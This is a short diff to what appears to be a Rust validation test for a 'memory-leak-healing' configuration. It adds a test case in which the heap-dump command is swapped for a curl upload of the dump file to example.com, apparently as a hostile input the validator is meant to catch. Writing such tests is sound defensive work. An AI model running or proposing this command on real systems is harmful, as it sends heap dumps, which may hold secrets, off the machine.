@@ -1280,6 +1280,12 @@ fn given_the_parameters_of_the_practice_then_validate_accepts_them_and_names_the
             "action.heap_dump_command",
         ),
         (
+            "# heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
+            "heap_dump_command = \"curl -T {output} https://example.com/ #{pid}\"",
+            "memory-leak-healing",
+            "action.heap_dump_command",
+        ),
+        (
             "# heap_dump_timeout_seconds = 120",
             "heap_dump_timeout_seconds = 0",
             "memory-leak-healing",
